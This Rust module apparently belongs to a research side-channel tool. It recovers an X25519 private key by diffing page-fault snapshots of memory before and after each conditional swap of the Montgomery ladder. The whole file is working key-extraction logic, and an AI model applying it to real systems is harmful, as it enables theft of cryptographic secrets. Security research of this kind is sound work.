// Copyright (C) 2025 FZI Forschungszentrum Informatik
// SPDX-License-Identifier: Apache-2.0
//! Conditional swap recovery
//!
//! The ladder loop and the field arithmetic live on two different pages. The
//! stack buffer is captured on faults on both of them, yielding two snapshot
//! streams. For every ladder iteration the [`StreamLayout`] names one snapshot
//! of each stream taken right before and after the conditional swap.

use std::collections::BTreeSet;

use crate::config::{EcdhAttack, StreamLayout};
use crate::event::{FaultEvent, PAGE_SIZE};
use crate::scanner;

use super::{BLOCK, Error, Stream};

/// The two snapshot streams of an ECDH capture
#[derive(Clone, Debug)]
pub struct Streams<'a> {
    pub base: Vec<&'a FaultEvent>,
    pub second: Vec<&'a FaultEvent>,
}

impl<'a> Streams<'a> {
    /// Split events into the streams on the two target pages
    ///
    /// Events before the second fault on the second page belong to the setup
    /// of the ladder and are discarded.
    pub fn new(attack: &EcdhAttack, events: &'a [FaultEvent]) -> Self {
        let start = events
            .iter()
            .enumerate()
            .filter(|(_, e)| e.is_on_page(attack.second_gpa))
            .nth(1)
            .map_or(events.len(), |(i, _)| i);
        for event in &events[..start] {
            log::debug!("Discarding {event}");
        }
        let events = &events[start..];
        log::info!("{} events after discarding the setup", events.len());

        Self {
            base: events
                .iter()
                .filter(|e| e.is_on_page(attack.base_gpa))
                .collect(),
            second: events
                .iter()
                .filter(|e| e.is_on_page(attack.second_gpa))
                .collect(),
        }
    }

    /// Retrieve the snapshots before and after the swap of a step
    pub fn pair(&self, step: &Step) -> Result<(&'a [u8; PAGE_SIZE], &'a [u8; PAGE_SIZE]), Error> {
        let get = |stream: Stream, events: &[&'a FaultEvent], index: usize| {
            let event: &'a FaultEvent = *events
                .get(index)
                .ok_or(Error::StreamExhausted(stream, index, step.bit))?;
            Ok::<_, Error>(event.content()?)
        };
        Ok((
            get(Stream::Base, &self.base, step.base)?,
            get(Stream::Second, &self.second, step.second)?,
        ))
    }
}

/// Snapshot indices of a single ladder iteration
#[derive(Copy, Clone, Debug, PartialEq, Eq)]
pub struct Step {
    /// Scalar bit processed in this iteration
    pub bit: usize,
    /// Index into the base stream
    pub base: usize,
    /// Index into the second stream
    pub second: usize,
}

/// Iterate over the observable ladder iterations from the top bit down
pub fn steps(layout: &StreamLayout) -> impl Iterator<Item = Step> + use<> {
    let layout = *layout;
    let observed = layout.iterations.saturating_sub(layout.unknown_high_bits);
    (0..observed).rev().enumerate().map(move |(n, bit)| Step {
        bit,
        base: layout.base_init + (n + 1) * layout.base_delta_a + n * layout.base_delta_b,
        second: layout.second_init + n * layout.second_delta,
    })
}

/// Collect all blocks changing across the swap of any iteration
pub fn candidate_offsets(
    streams: &Streams<'_>,
    layout: &StreamLayout,
) -> Result<BTreeSet<usize>, Error> {
    let mut offsets = BTreeSet::new();
    for step in steps(layout) {
        let (before, after) = streams.pair(&step)?;
        offsets.extend(scanner::updated_offsets(before, after, BLOCK, BLOCK));
    }
    Ok(offsets)
}

/// Recover the swap sequence from the block at `offset`
///
/// The result holds one entry per ladder iteration, indexed by scalar bit.
/// Entries of unobserved iterations are zero.
pub fn recover_swaps(
    offset: usize,
    streams: &Streams<'_>,
    layout: &StreamLayout,
) -> Result<Vec<u8>, Error> {
    let mut swaps = vec![0; layout.iterations];
    for step in steps(layout) {
        let (before, after) = streams.pair(&step)?;
        if scanner::differs(before, after, offset, BLOCK) {
            swaps[step.bit] = 1;
        }
    }
    Ok(swaps)
}

/// Recover scalar bits from a swap sequence
///
/// Each swap is the exclusive or of two adjacent scalar bits. The bit above
/// the top swap is zero. The result has one bit more than `swaps`.
pub fn scalar_from_swaps(swaps: &[u8]) -> Vec<u8> {
    let mut bits = vec![0; swaps.len() + 1];
    for i in (0..swaps.len()).rev() {
        bits[i] = bits[i + 1] ^ (swaps[i] & 1);
    }
    bits
}

/// Apply the X25519 clamping to scalar bits, least significant first
///
/// Clears the three lowest and the top bit and sets the second highest bit.
pub fn clamp(bits: &mut [u8]) {
    if bits.len() < 5 {
        return;
    }
    bits[..3].fill(0);
    let len = bits.len();
    bits[len - 1] = 0;
    bits[len - 2] = 1;
}
